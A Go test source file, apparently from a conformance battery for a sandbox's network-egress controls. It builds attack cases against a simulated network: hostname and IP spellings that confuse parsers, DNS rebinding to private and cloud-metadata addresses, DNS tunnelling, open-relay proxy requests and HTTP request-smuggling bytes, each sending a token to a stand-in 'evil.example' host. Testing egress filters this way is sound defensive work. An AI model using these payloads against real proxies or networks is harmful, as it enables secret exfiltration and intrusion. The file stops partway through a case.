package main

import (
	"encoding/hex"
	"fmt"
	"io"
	"net/netip"
	"os"
	"slices"
	"strings"
	"time"

	"palyra/conformance/world"
)

// lending makes the world, in a process of its own that the battery starts for it.
func lending() bool { return world.Lending() }

// neighbour is the probe of a call beside the attempt's, whose lines are not the attempt's.
const neighbour = "neighbour"

// The addresses of the world that the cases need, besides the world's own.
const (
	evil     = "192.31.196.200"  // of hosts that no rule names
	hearPort = "13"              // where the world's servers say that they heard
	httpIn   = "198.18.0.2:3128" // the proxies in a cell
	socksIn  = "198.18.0.2:1080" //
)

// hosts are the names of one attempt, and the world that has them.
type hosts struct {
	s      *stage
	w      *world.Lent
	token  string
	evil   string // a name that no rule has, at evil
	suffix string // rules are about names below it, which are at world.Web
}

func (s *stage) hosts() (*hosts, error) {
	w, err := s.b.inWorld()
	if err != nil {
		return nil, err
	}
	h := &hosts{s: s, w: w, token: nonce(), evil: s.nonce + ".evil.example", suffix: s.nonce + ".cdn.example"}
	w.Set(h.evil, world.Addrs(evil))
	w.Set(h.ok(), world.Addrs(world.Web))
	return h, nil
}

// ok is the one name below suffix that is there.
func (h *hosts) ok() string { return "a." + h.suffix }

// rule is about the names below suffix at a port.
func (h *hosts) rule(port string) []string { return []string{"*." + h.suffix + ":" + port} }

func hexed(s string) string { return hex.EncodeToString([]byte(s)) }

// elsewhere is the canary of the token: the world heard it at another address than these.
func (h *hosts) elsewhere(fine ...string) func(*outcome) (bool, string) {
	return func(*outcome) (bool, string) {
		var at netip.AddrPort
		heard := h.s.seen(func() bool {
			all := h.w.Heard(h.token)
			i := slices.IndexFunc(all, func(a netip.AddrPort) bool { return !slices.Contains(fine, a.Addr().String()) })
			if i >= 0 {
				at = all[i]
			}
			return i >= 0
		})
		return heard, fmt.Sprintf("the host at %v heard it", at)
	}
}

// afterwards is the canary of a token that is on its way when the run has ended.
func (h *hosts) afterwards() func(*outcome) (bool, string) {
	return func(*outcome) (bool, string) {
		time.Sleep(pause) // for what was on its way
		before := len(h.w.Heard(h.token))
		more := func() bool { return len(h.w.Heard(h.token)) > before }
		if h.s.inside {
			time.Sleep(5 * pause)
			return more(), "the host heard it after the end"
		}
		return h.s.seen(more), "the host heard it after the end"
	}
}

// asked is the canary of a question that mustn't come to the world.
func (h *hosts) asked(is func(world.Query) bool) func(*outcome) (bool, string) {
	return func(*outcome) (bool, string) {
		return h.s.seen(func() bool { return slices.ContainsFunc(h.w.Queries(""), is) }), "the world's name server was asked"
	}
}

// askedToken is that of a name with the token in it.
func (h *hosts) askedToken() func(*outcome) (bool, string) {
	return h.asked(func(q world.Query) bool { return strings.Contains(strings.ToLower(q.Name), h.token) })
}

// proxy is the address of the cell's proxy, or of a naive one outside.
func (h *hosts) proxy(via string, words ...string) (string, error) {
	if h.s.inside {
		if via == "socks" {
			return socksIn, nil
		}
		return httpIn, nil
	}
	_, at, err := h.s.handInWorld("naive", words...)
	return at, err
}

// arrive is the attempt to bring the token to a host.
func (h *hosts) arrive(via, host, port string, words ...string) scene {
	return scene{probe: "arrive", args: append([]string{"via=" + via, "host=" + hexed(host), "port=" + port, "token=" + h.token}, words...),
		opt: options{egress: h.rule(hearPort)}, canary: h.elsewhere(world.Web)}
}

// through is arrive by way of a proxy, against a naive one that has these words.
func (h *hosts) through(via, host, port string, words ...string) (scene, error) {
	at, err := h.proxy(strings.TrimSuffix(via, "-address"), words...)
	return h.arrive(via, host, port, "proxy="+at), err
}

// raw is bytes for a proxy as they are.
func (h *hosts) raw(via, bytes string, words ...string) (scene, error) {
	at, err := h.proxy(via, words...)
	return h.arrive("raw", "", hearPort, "proxy="+at, "bytes="+hexed(bytes)), err
}

// reachTable collects cases whose calls have hosts.
type reachTable struct {
	number int
	name   string
	out    []attackCase
}

func (t *reachTable) add(variant, attack, note string, stopped []string, build func(h *hosts) (scene, error)) {
	t.out = append(t.out, attackCase{number: t.number, variant: variant, name: t.name, attack: attack, note: note, stopped: onlyC(stopped...), hosts: true,
		absent: map[string]string{"b": "tier B reaches no hosts"},
		stage: func(s *stage) (scene, error) {
			h, err := s.hosts()
			if err != nil {
				return scene{}, err
			}
			sc, err := build(h)
			if err == nil && sc.opt.others == nil {
				sc.opt.workspace, err = s.workspace()
			}
			return sc, err
		}})
}

// vias are the three ways by which a program can name a host, and how each is refused a name that is
// no name.
var vias = []struct{ via, says string }{{"dns", "NXDOMAIN"}, {"connect", "HTTP400"}, {"socks", "SOCKS2"}}

// reachCases are 91 to 93 and 121 to 129: a call that may reach some hosts tries to reach others. Each
// runs in the world, where its control reaches them; the control of what fools a proxy is a proxy
// that is fooled, remade from those that were. 91 is the attack table's number; cookie-gate had it first.
func reachCases() []attackCase {
	var out []attackCase
	for _, f := range []func() []attackCase{spellingCases, leadCases, launderCases, tunnelCases, resolverCases, packetCases, callCases, relayCases, smuggleCases, starveCases, lateCases, serviceCases} {
		out = append(out, f()...)
	}
	return out
}

// spellingCases are 91: a host that one parser takes for an allowed one and another for another.
func spellingCases() []attackCase {
	t := reachTable{number: 91, name: "egress-parser-diff"}
	for _, v := range []struct {
		how, attack string
		host        func(h *hosts) string
	}{
		{"nul", "a NUL behind it", func(h *hosts) string { return h.evil + "\x00." + h.suffix }},
		{"crlf", "CR LF behind it", func(h *hosts) string { return h.evil + "\r\n." + h.suffix }},
		{"user", "the allowed one as its user", func(h *hosts) string { return h.ok() + "@" + h.evil }},
		{"fragment", "a fragment behind it", func(h *hosts) string { return h.evil + "#." + h.suffix }},
		{"path", "a path behind it", func(h *hosts) string { return h.evil + "/." + h.suffix }},
		{"query", "a query behind it", func(h *hosts) string { return h.evil + "?." + h.suffix }},
		{"backslash", "a backslash behind it", func(h *hosts) string { return h.evil + "\\." + h.suffix }},
		{"space", "a space behind it", func(h *hosts) string { return h.evil + " ." + h.suffix }},
		{"percent", "an encoded NUL behind it", func(h *hosts) string { return h.evil + "%00." + h.suffix }},
		{"percent-path", "an encoded path behind it", func(h *hosts) string { return h.evil + "%2f." + h.suffix }},
		{"wide", "a wide solidus behind it, which normalizes to a path", func(h *hosts) string { return h.evil + "／." + h.suffix }},
		{"xn", "a label that decodes to an allowed one", func(h *hosts) string { return "a." + h.s.nonce + ".xn--cdn-.example" }},
	} {
		for _, w := range vias {
			t.add(v.how+"-"+w.via, "reach a host by "+w.via+" that looks allowed: "+v.attack, "", []string{w.says}, func(h *hosts) (scene, error) {
				host := v.host(h)
				h.w.Set(host, world.Addrs(evil))
				if w.via == "dns" {
					return h.arrive("dns", host, hearPort), nil
				}
				return h.through(w.via, host, hearPort, "allow="+h.suffix)
			})
		}
	}
	for _, v := range []struct {
		how, attack, connect string
		host                 func(h *hosts) string
	}{
		{"dot", "with the root's dot", "HTTP403", func(h *hosts) string { return h.evil + "." }},
		{"upper", "in upper case", "HTTP403", func(h *hosts) string { return strings.ToUpper(h.evil) }},
		{"ideographic", "with ideographic dots", "HTTP400", func(h *hosts) string { return strings.ReplaceAll(h.evil, ".", "。") }},
	} {
		for _, w := range vias {
			says := w.says
			if w.via == "connect" {
				says = v.connect
			}
			t.add(v.how+"-"+w.via, "reach a host by "+w.via+" in another spelling than the one denied: "+v.attack, "", []string{says}, func(h *hosts) (scene, error) {
				if w.via == "dns" {
					h.w.Set(v.host(h), world.Addrs(evil))
					return h.arrive("dns", v.host(h), hearPort), nil
				}
				return h.through(w.via, v.host(h), hearPort, "deny="+h.evil)
			})
		}
	}
	for _, v := range []struct{ how, host, connect string }{
		{"decimal", "167772165", ""}, {"octal", "012.0.0.5", ""}, {"hex", "0xa.0.0.5", ""}, {"hex-whole", "0xa000005", ""}, {"short", "10.5", ""},
		{"mixed", "0xa.5", ""}, {"padded", "10.0.0.05", ""}, {"root", "10.0.0.5.", ""}, {"overflow", "4462739461", ""}, {"encoded", "10.0.0%2e5", ""},
		{"mapped", "[::ffff:10.0.0.5]", ""}, {"mapped-hex", "[::ffff:a00:5]", ""}, {"mapped-long", "[0:0:0:0:0:ffff:a00:5]", ""},
		{"zone", "[fd00:1::5%25world]", ""}, {"zone-raw", "[fd00:1::5%world]", ""}, {"bracket", "[10.0.0.5]", ""},
	} {
		for _, w := range vias[1:] {
			t.add("address-"+v.how+"-"+w.via, "reach a private address by "+w.via+" in an odd spelling: "+v.host, "", []string{w.says}, func(h *hosts) (scene, error) {
				return h.through(w.via, v.host, hearPort, "deny=-")
			})
		}
	}
	for _, v := range []struct{ how, host string }{{"decimal", "167772165"}, {"hex", "0xa000005"}, {"short", "10.5"}, {"octal", "012.0.0.5"}} {
		t.add("address-"+v.how+"-dns", "reach a private address by dns in an odd spelling: "+v.host, "", []string{"NXDOMAIN"}, func(h *hosts) (scene, error) {
			h.w.Set(v.host, world.Addrs(world.Private))
			return h.arrive("dns", v.host, hearPort), nil
		})
	}
	for _, v := range []struct{ how, attack, port string }{
		{"overflow", "a port that is another one modulo 65536", "65549"}, {"padded", "a port with zeros in front", "00013"}, {"sign", "a port with a sign", "+13"},
	} {
		t.add("port-"+v.how+"-connect", "reach a port that no rule names: "+v.attack, "", []string{"HTTP400"}, func(h *hosts) (scene, error) {
			sc, err := h.through("connect", h.ok(), v.port, "allow="+h.suffix)
			sc.opt.egress, sc.canary = h.rule("443"), h.elsewhere()
			return sc, err
		})
	}
	t.add("port-user-connect", "reach a host by connect that looks allowed: the allowed one and its port as the user", "", []string{"HTTP400"}, func(h *hosts) (scene, error) {
		return h.through("connect", h.ok()+":443@"+h.evil, hearPort, "allow="+h.suffix)
	})
	return t.out
}

// leadCases are 92: an allowed name that leads to where none may.
func leadCases() []attackCase {
	t := reachTable{number: 92, name: "rebinding-metadata"}
	set := func(h *hosts, n world.Name) { h.w.Set(h.ok(), n) }
	for _, v := range []struct {
		how, attack string
		addrs       []string
	}{
		{"private", "a private address", []string{world.Private}},
		{"private6", "a unique local address", []string{world.Private6}},
		{"site-local", "a site-local address", []string{"fec0::5"}},
		{"metadata", "a cloud's metadata", []string{world.Metadata}},
		{"mapped", "an IPv4-mapped private address", []string{"::ffff:10.0.0.5"}},
		{"nat64", "a private address in NAT64", []string{"64:ff9b::a00:5"}},
		{"nat64-local", "… in a local NAT64", []string{"64:ff9b:1::a00:5"}},
		{"nat64-metadata", "a cloud's metadata in NAT64", []string{"64:ff9b::a9fe:a9fe"}},
		{"6to4", "a private address in 6to4", []string{"2002:a00:5::1"}},
		{"teredo", "… in Teredo", []string{"2001:0:c01f:c48c::f5ff:fffa"}},
		{"isatap", "… in ISATAP", []string{"2620:4f:8000:1:0:5efe:a00:5"}},
		{"last", "many addresses of which the last is private", append(public(12), world.Private)},
		{"first", "… of which the first is", append([]string{world.Private}, public(12)...)},
		{"family", "public IPv4 addresses and one private IPv6 address", append(public(3), world.Private6)},
	} {
		for _, w := range vias {
			if w.via != "dns" && v.how != "private" && v.how != "metadata" && v.how != "nat64" && v.how != "last" {
				continue
			}
			says := map[string]string{"dns": "NXDOMAIN", "connect": "HTTP403", "socks": "SOCKS2"}[w.via]
			t.add(v.how+"-"+w.via, "reach by "+w.via+" where an allowed name leads: "+v.attack, "one forbidden address refuses all", []string{says}, func(h *hosts) (scene, error) {
				set(h, world.Addrs(v.addrs...))
				var sc scene
				var err error
				if w.via == "dns" {
					sc = h.arrive("dns", h.ok(), hearPort)
				} else {
					sc, err = h.through(w.via, h.ok(), hearPort, "allow="+h.suffix)
				}
				sc.canary = h.elsewhere(public(12)...)
				return sc, err
			})
		}
	}
	for _, v := range []struct {
		how, attack string
		name        func(h *hosts) world.Name
		types       string
	}{
		{"alias", "an alias of a name with a private address", func(h *hosts) world.Name {
			h.w.Set("in."+h.evil, world.Addrs(world.Private))
			return world.Alias("in." + h.evil)
		}, ""},
		{"alias-chain", "… over several aliases", func(h *hosts) world.Name {
			h.w.Set("in."+h.evil, world.Addrs(world.Metadata))
			h.w.Set("b."+h.evil, world.Alias("in."+h.evil))
			h.w.Set("c."+h.evil, world.Alias("b."+h.evil))
			return world.Alias("c." + h.evil)
		}, ""},
		{"second-family", "a public IPv4 address, and a private one where IPv6 is asked", func(h *hosts) world.Name {
			return func(typ string, _ int) world.Reply {
				if typ == "AAAA" {
					return world.Addrs(world.Private6)(typ, 0)
				}
				return world.Addrs(world.Web)(typ, 0)
			}
		}, "AAAA"},
	} {
		t.add(v.how, "reach by dns where an allowed name leads: "+v.attack, "", []string{"NXDOMAIN"}, func(h *hosts) (scene, error) {
			set(h, v.name(h))
			return h.arrive("dns", h.ok(), hearPort, "types="+v.types), nil
		})
	}
	for _, v := range []struct {
		how, attack string
		again       string
		next        string
	}{
		{"rebind", "a public address, and a private one when it is asked again", "1", world.Private},
		{"rebind-metadata", "a public address, and a cloud's metadata when it is asked again", "1", world.Metadata},
		{"rebind-later", "… when it is asked for the fifth time, none to be kept", "4", world.Private},
	} {
		for _, via := range []string{"dns", "connect"} {
			t.add(v.how+"-"+via, "reach by "+via+" where an allowed name leads: "+v.attack, "OPEN: the address of the first answer, which is the only one", []string{"OPEN"}, func(h *hosts) (scene, error) {
				first := world.Addrs(world.Web)
				name := world.Addrs(v.next)
				for range v.again[0] - '0' {
					name = world.Then(first, name)
				}
				set(h, name)
				if via == "dns" {
					return h.arrive("dns", h.ok(), hearPort, "types=A", "again="+v.again), nil
				}
				sc, err := h.through("connect", h.ok(), hearPort, "allow="+h.suffix)
				sc.args = append(sc.args, "before="+v.again)
				return sc, err
			})
		}
	}
	loopback := func(how, addr string) {
		t.add(how, "reach by dns where an allowed name leads: the host's loopback as "+addr, "", []string{"NXDOMAIN"}, func(h *hosts) (scene, error) {
			port, heard, err := h.service()
			set(h, world.Addrs(addr))
			sc := h.arrive("dns", h.ok(), port)
			sc.opt.egress, sc.canary = h.rule(port), heard
			return sc, err
		})
	}
	loopback("loopback", "127.0.0.1")
	loopback("this-host", "0.0.0.0")
	loopback("loopback-mapped", "::ffff:127.0.0.1")
	for _, v := range []struct{ how, host string }{{"metadata", world.Metadata}, {"private", world.Private}, {"private6", world.Private6}, {"public", evil}} {
		t.add("literal-"+v.how, "connect to an address that no rule names: "+v.host, "", []string{"ENETUNREACH"}, func(h *hosts) (scene, error) {
			return h.arrive("literal", v.host, hearPort), nil
		})
		for _, w := range []struct{ via, says string }{{"connect", "HTTP403"}, {"socks", "SOCKS2"}, {"socks-address", "SOCKS2"}} {
			t.add("literal-"+v.how+"-"+w.via, "… by "+w.via, "", []string{w.says}, func(h *hosts) (scene, error) {
				host := v.host
				if w.via != "socks-address" && strings.Contains(host, ":") {
					host = "[" + host + "]"
				}
				return h.through(w.via, host, hearPort, "allow=:"+hearPort)
			})
		}
	}
	return t.out
}

// public are so many public addresses.
func public(n int) []string {
	var out []string
	for i := range n {
		out = append(out, fmt.Sprintf("192.31.196.%d", 140+i))
	}
	return out
}

// service starts one on the loopback interface of the attempt's host, and returns its port and the
// canary that it heard the token.
func (h *hosts) service() (port string, heard func(*outcome) (bool, string), err error) {
	hand, port, err := h.s.handInWorld("service")
	if err != nil {
		return "", nil, err
	}
	l := &listenerOf{s: h.s}
	go l.hear(hand.rest())
	return port, l.heard(h.token), nil
}

// rest is what a helper says after it is ready.
func (h *hand) rest() io.Reader {
	r, w := io.Pipe()
	go func() {
		for h.lines.Scan() {
			w.Write(append(h.lines.Bytes(), '\n'))
		}
		w.Close()
	}()
	return r
}

// launderCases are 93: a secret on its way to a host that may not have it.
func launderCases() []attackCase {
	t := reachTable{number: 93, name: "secret-launder"}
	t.add("redirect", "bring a secret to another host by a redirect of an allowed one", "", []string{"NXDOMAIN"}, func(h *hosts) (scene, error) {
		sc := h.arrive("redirect", h.ok(), "80", "to="+h.evil, "path=/to?http%3A%2F%2F"+h.evil+"%3A"+hearPort+"%2F"+h.token)
		sc.opt.egress = h.rule("80")
		return sc, nil
	})
	t.add("label", "… in a label in front of an allowed name", "", []string{"NXDOMAIN"}, func(h *hosts) (scene, error) {
		return scene{probe: "ask", args: []string{"name=" + hexed(h.token+"."+h.ok()), "type=1", "over=udp"}, opt: options{egress: []string{h.ok() + ":443"}}, canary: h.askedToken()}, nil
	})
	// The record is the receipt, and what palyra says; of a naive proxy what it logs.
	for _, v := range []struct {
		how, attack, says string
		bytes             func(h *hosts) string
	}{
		{"user", "as the user of a host that is denied", "HTTP400", func(h *hosts) string {
			return "CONNECT user:" + h.token + "@" + h.evil + ":13 HTTP/1.1\r\n\r\n"
		}},
		{"query", "in the query of a URL that is denied", "HTTP501", func(h *hosts) string {
			return "GET http://" + h.evil + ":13/?" + h.token + " HTTP/1.1\r\n\r\n"
		}},
		{"header", "in a header of a request that is denied", "HTTP403", func(h *hosts) string {
			return "CONNECT " + h.evil + ":13 HTTP/1.1\r\nProxy-Authorization: Basic " + h.token + "\r\n\r\n"
		}},
	} {
		t.add("record-"+v.how, "leave a secret in the record of the call: "+v.attack, "", []string{v.says}, func(h *hosts) (scene, error) {
			var said func(*outcome) (bool, string)
			at := httpIn
			receipt := h.s.dir + "/receipt.json"
			if !h.s.inside {
				naive, addr, err := h.s.handInWorld("naive", "deny="+h.evil, "log=1")
				if err != nil {
					return scene{}, err
				}
				l := &listenerOf{s: h.s}
				go l.hear(naive.rest())
				at, said = addr, l.heard(h.token)
			} else {
				said = func(o *outcome) (bool, string) {
					b, err := os.ReadFile(receipt)
					if err != nil {
						return true, "no receipt: " + err.Error()
					}
					return strings.Contains(string(b), h.token) || strings.Contains(string(o.stderr.kept), h.token), "it is in the receipt, or palyra said it"
				}
			}
			// In hexadecimal, so that the command line, which the receipt has, doesn't hold it.
			sc := scene{probe: "arrive", args: []string{"via=raw", "proxy=" + at, "token=-", "bytes=" + hexed(v.bytes(h))}, canary: said}
			sc.opt.egress, sc.opt.receipt = h.rule(hearPort), receipt
			return sc, nil
		})
	}
	return t.out
}

// tunnelCases are 121: bytes that leave in questions to name servers.
func tunnelCases() []attackCase {
	t := reachTable{number: 121, name: "dns-tunnel"}
	ask := func(h *hosts, name, typ, over string, words ...string) scene {
		return scene{probe: "ask", args: append([]string{"name=" + hexed(name), "type=" + typ, "over=" + over}, words...), opt: options{egress: h.rule(hearPort)}, canary: h.askedToken()}
	}
	for _, v := range []struct{ how, typ string }{{"a", "1"}, {"aaaa", "28"}, {"txt", "16"}, {"null", "10"}, {"any", "255"}, {"mx", "15"}, {"cname", "5"}, {"srv", "33"}, {"https", "65"}, {"ptr", "12"}, {"private", "65399"}} {
		t.add("type-"+v.how, "send a secret as a label of a name that no rule has: a question of type "+v.typ, "", []string{"NXDOMAIN"}, func(h *hosts) (scene, error) {
			return ask(h, h.token+"."+h.evil, v.typ, "udp"), nil
		})
	}
	t.add("long", "… with labels as long as there are", "", []string{"NXDOMAIN"}, func(h *hosts) (scene, error) {
		fill := strings.Repeat("x", 63)
		return ask(h, fill+"."+h.token+"."+fill+"."+h.evil, "1", "udp"), nil
	})
	t.add("many", "… and 300 names of them", "", []string{"NXDOMAIN"}, func(h *hosts) (scene, error) {
		return ask(h, h.token+"."+h.evil, "1", "udp", "times=300"), nil
	})
	t.add("pipelined", "… 60 at once in a connection", "", []string{"NXDOMAIN"}, func(h *hosts) (scene, error) {
		return ask(h, h.token+"."+h.evil, "1", "tcp", "times=60"), nil
	})
	t.add("class", "… of class CHAOS", "", []string{"DNSREFUSED"}, func(h *hosts) (scene, error) {
		return ask(h, h.token+"."+h.evil, "16", "udp", "class=3"), nil
	})
	for _, v := range []struct{ how, op string }{{"status", "2"}, {"notify", "4"}, {"update", "5"}} {
		t.add(v.how, "… of operation "+v.op, "", []string{"NOTIMP"}, func(h *hosts) (scene, error) {
			return ask(h, h.token+"."+h.evil, "1", "udp", "operation="+v.op), nil
		})
	}
	for _, v := range []struct{ how, typ string }{{"txt", "16"}, {"null", "10"}, {"any", "255"}} {
		t.add("allowed-"+v.how, "have an allowed name's server asked for type "+v.typ+", whose answers hold anything", "", []string{"NODATA"}, func(h *hosts) (scene, error) {
			sc := ask(h, h.ok(), v.typ, "udp")
			sc.canary = h.asked(func(q world.Query) bool {
				return strings.EqualFold(q.Name, h.ok()) && q.Type != "A" && q.Type != "AAAA"
			})
			return sc, nil
		})
	}
	heard := func(h *hosts, sc scene) scene {
		sc.canary = h.elsewhere()
		return sc
	}
	t.add("option", "send a secret in an option of a question for an allowed name", "OPEN: the name's address, and the question wasn't passed on", []string{"OPEN"}, func(h *hosts) (scene, error) {
		return heard(h, ask(h, h.ok(), "1", "udp", "option="+h.token)), nil
	})
	t.add("behind", "… behind the question", "", []string{"FORMERR"}, func(h *hosts) (scene, error) {
		return heard(h, ask(h, h.ok(), "1", "udp", "behind="+h.token)), nil
	})
	t.add("case", "… in the case of its letters", "OPEN: the name's address, asked for in lower case", []string{"OPEN"}, func(h *hosts) (scene, error) {
		name := strings.ToUpper(h.ok()[:12]) + h.ok()[12:]
		sc := ask(h, name, "1", "udp")
		sc.canary = h.asked(func(q world.Query) bool { return q.Name == name })
		return sc, nil
	})
	return t.out
}

// resolverCases are 122: other name servers than the cell's.
func resolverCases() []attackCase {
	t := reachTable{number: 122, name: "other-resolver"}
	for _, v := range []struct{ how, attack, over, server, says string }{
		{"udp", "ask another name server: the host's, over UDP", "udp", world.Resolver + ":53", "ENETUNREACH"},
		{"tcp", "… over TCP", "tcp", world.Resolver + ":53", "ENETUNREACH"},
		{"tcp6", "… at an IPv6 address", "tcp", "[" + world.Web6 + "]:53", "ENETUNREACH"},
		{"https-address", "… over HTTP (RFC 8484), by its address", "http", world.Web + ":80", "ENETUNREACH"},
		{"https-name", "… by a name that no rule has", "http", "", "NXDOMAIN"},
		{"port", "… at the cell's resolver on another port", "udp", "198.18.0.1:5353", "ECONNREFUSED"},
	} {
		t.add(v.how, v.attack, "", []string{v.says}, func(h *hosts) (scene, error) {
			server := v.server
			if server == "" {
				server = h.evil + ":80"
			}
			if v.how == "port" && !h.s.inside {
				server = world.Resolver + ":53"
			}
			return scene{probe: "ask", args: []string{"name=" + hexed(h.token+"."+h.evil), "type=1", "over=" + v.over, "server=" + server},
				opt: options{egress: h.rule("80")}, canary: h.askedToken()}, nil
		})
	}
	return t.out
}

// packetCases are 123: other protocols than TCP, and other ways to begin that.
func packetCases() []attackCase {
	t := reachTable{number: 123, name: "no-tcp"}
	for _, v := range []struct {
		how, attack, host string
		says              []string
	}{
		{"udp", "send a packet to a host: UDP", evil, []string{"ENETUNREACH"}},
		{"icmp", "… an echo request", evil, []string{"EPROTONOSUPPORT"}},
		{"raw", "… an echo request of a raw socket", evil, noFamily},
		{"sctp", "… SCTP", evil, append([]string{"EPROTONOSUPPORT", "ESOCKTNOSUPPORT"}, noFamily...)},
	} {
		t.add(v.how, v.attack, "", v.says, func(h *hosts) (scene, error) {
			return scene{probe: "datagram", args: []string{"how=" + v.how, "host=" + hexed(v.host), "port=443", "token=" + h.token},
				opt: options{egress: h.rule("443")}, canary: h.elsewhere()}, nil
		})
	}
	t.add("quic", "… UDP to the port of an allowed name", "nothing listens there: QUIC falls back to TCP", []string{"ECONNREFUSED"}, func(h *hosts) (scene, error) {
		return scene{probe: "datagram", args: []string{"how=udp", "host=" + hexed(h.ok()), "port=443", "token=" + h.token},
			opt: options{egress: h.rule("443")}, canary: h.elsewhere()}, nil
	})
	for _, v := range []struct{ how, attack string }{{"mptcp", "connect with MPTCP to a host that no rule names"}, {"fastopen", "… with MSG_FASTOPEN"}} {
		t.add(v.how, v.attack, "", []string{"ENETUNREACH", "EPROTONOSUPPORT", "ENOTSUP"}, func(h *hosts) (scene, error) {
			return scene{probe: "tcp", args: []string{"ip=4", "to=" + evil, "port=" + hearPort, "how=" + v.how, "token=" + h.token},
				opt: options{egress: h.rule(hearPort)}, canary: h.elsewhere()}, nil
		})
	}
	return t.out
}

// callCases are 124: what is another call's.
func callCases() []attackCase {
	t := reachTable{number: 124, name: "other-call-hosts"}
	t.add("address", "connect to the address that a name had in an earlier call", "each call's addresses begin anew, and are bound for names that were asked for", []string{"ECONNREFUSED"}, func(h *hosts) (scene, error) {
		at := "198.18.1.0"
		if !h.s.inside {
			at = world.Web
		}
		sc := h.arrive("literal", at, hearPort)
		sc.canary = h.elsewhere()
		return sc, nil
	})
	t.add("cell-address6", "… as an IPv6 address", "", []string{"ECONNREFUSED", "ENETUNREACH"}, func(h *hosts) (scene, error) {
		at := "fd70:616c:7972::c612:100"
		if !h.s.inside {
			at = world.Web6
		}
		sc := h.arrive("literal", at, hearPort)
		sc.canary = h.elsewhere()
		return sc, nil
	})
	for _, w := range []struct{ via, says string }{{"dns", "NXDOMAIN"}, {"connect", "HTTP403"}, {"socks", "SOCKS2"}, {"literal", "ECONNREFUSED"}} {
		t.add("beside-"+w.via, "reach by "+w.via+" the host of a call that runs beside it over the same palyra-egress", "", []string{w.says}, func(h *hosts) (scene, error) {
			theirs := "their." + h.s.nonce + ".other.example"
			h.w.Set(theirs, world.Addrs(evil))
			var sc scene
			var err error
			switch host := theirs; w.via {
			case "dns":
				sc = h.arrive("dns", host, hearPort)
			case "literal":
				at := "198.18.1.0"
				if !h.s.inside {
					at = evil
				}
				sc = h.arrive("literal", at, hearPort)
			default:
				sc, err = h.through(w.via, host, hearPort, "allow="+theirs)
			}
			sc.opt.others = []string{theirs + ":" + hearPort}
			sc.opt.beside = []string{neighbour, "host=" + hexed(theirs), "port=" + hearPort}
			return sc, err
		})
	}
	return t.out
}

// relayCases are 125: the proxies as relays for more than CONNECT to what is allowed.
func relayCases() []attackCase {
	t := reachTable{number: 125, name: "open-relay"}
	for _, w := range []struct{ via, says string }{{"connect", "HTTP403"}, {"socks", "SOCKS2"}} {
		t.add(w.via, "reach by "+w.via+" a host that no rule names", "", []string{w.says}, func(h *hosts) (scene, error) {
			return h.through(w.via, h.evil, hearPort, "deny=-")
		})
		t.add("port-"+w.via, "… an allowed host at another port", "", []string{w.says}, func(h *hosts) (scene, error) {
			sc, err := h.through(w.via, h.ok(), hearPort, "deny=-")
			sc.opt.egress, sc.canary = h.rule("443"), h.elsewhere()
			return sc, err
		})
	}
	t.add("port-dns", "… by dns", "", []string{"ECONNREFUSED"}, func(h *hosts) (scene, error) {
		sc := h.arrive("dns", h.ok(), hearPort)
		sc.opt.egress, sc.canary = h.rule("443"), h.elsewhere()
		return sc, nil
	})
	for _, v := range []struct {
		how, via, attack, says string
		bytes                  func(h *hosts) string
	}{
		{"get", "connect", "have a proxy pass on a request: GET of a URL", "HTTP501", func(h *hosts) string {
			return "GET http://" + h.evil + ":13/" + h.token + " HTTP/1.1\r\nHost: " + h.evil + "\r\n\r\n"
		}},
		{"post", "connect", "… POST", "HTTP501", func(h *hosts) string {
			return "POST http://" + h.evil + ":13/ HTTP/1.1\r\nHost: " + h.evil + "\r\nContent-Length: 40\r\n\r\n" + h.token
		}},
		{"get-allowed", "connect", "… GET of an allowed host's URL", "HTTP501", func(h *hosts) string {
			return "GET http://" + h.ok() + ":13/" + h.token + " HTTP/1.1\r\nHost: " + h.ok() + "\r\n\r\n"
		}},
		{"host-header", "connect", "… of a path, with the host in a header", "HTTP405", func(h *hosts) string {
			return "GET /" + h.token + " HTTP/1.1\r\nHost: " + h.evil + ":13\r\n\r\n"
		}},
		{"socks4", "socks", "… SOCKS4", "SOCKS4-91", func(h *hosts) string {
			a := netip.MustParseAddr(evil).As4()
			return "\x04\x01\x00\x0d" + string(a[:]) + "\x00"
		}},
		{"socks4a", "socks", "… SOCKS4a, with a name", "SOCKS4-91", func(h *hosts) string {
			return "\x04\x01\x00\x0d\x00\x00\x00\x01\x00" + h.evil + "\x00"
		}},
	} {
		t.add(v.how, v.attack, "", []string{v.says}, func(h *hosts) (scene, error) {
			sc, err := h.raw(v.via, v.bytes(h), "deny=-")
			sc.canary = h.elsewhere()
			return sc, err
		})
	}
	for _, v := range []struct {
		how, attack string
		command     byte
	}{{"bind", "have SOCKS5 listen for it (BIND)", 2}, {"associate", "have SOCKS5 pass packets (UDP ASSOCIATE)", 3}} {
		t.add("socks-"+v.how, v.attack, "", []string{"SOCKS7"}, func(h *hosts) (scene, error) {
			at, err := h.proxy("socks", "deny=-")
			sc := h.arrive("socks", h.ok(), hearPort, "proxy="+at, fmt.Sprintf("command=%d", v.command))
			sc.canary = nil // the host is allowed, the command isn't
			return sc, err
		})
	}
	return t.out
}

// smuggleCases are 126: two requests where a proxy may see one.
func smuggleCases() []attackCase {
	t := reachTable{number: 126, name: "request-smuggling"}
	for _, v := range []struct {
		how, attack string
		says        string
		bytes       func(ok, evil string) string
	}{
		{"length", "hide a request from the judging side of a proxy: in a body of known length", "HTTP400", func(ok, evil string) string {
			return "CONNECT " + ok + " HTTP/1.1\r\nContent-Length: 60\r\n\r\nCONNECT " + evil + " HTTP/1.1\r\n\r\n"
		}},
		{"chunked", "… in a chunked body", "HTTP400", func(ok, evil string) string {
			return "CONNECT " + ok + " HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nCONNECT " + evil + " HTTP/1.1\r\n\r\n"
		}},
		{"both", "… with both kinds of length", "HTTP400", func(ok, evil string) string {
			return "CONNECT " + ok + " HTTP/1.1\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nCONNECT " + evil + " HTTP/1.1\r\n\r\n"
		}},
		{"bare-lf", "… behind a line that ends in LF alone", "HTTP400", func(ok, evil string) string {
			return "CONNECT " + ok + " HTTP/1.1\nHost: x\n\nCONNECT " + evil + " HTTP/1.1\r\n\r\n"
		}},
		{"bare-cr", "… behind a CR alone", "HTTP400", func(ok, evil string) string {
			return "CONNECT " + ok + " HTTP/1.1\r\nX: y\rCONNECT " + evil + " HTTP/1.1\r\n\r\n"
		}},
		{"fold", "… in a folded header", "HTTP400", func(ok, evil string) string {
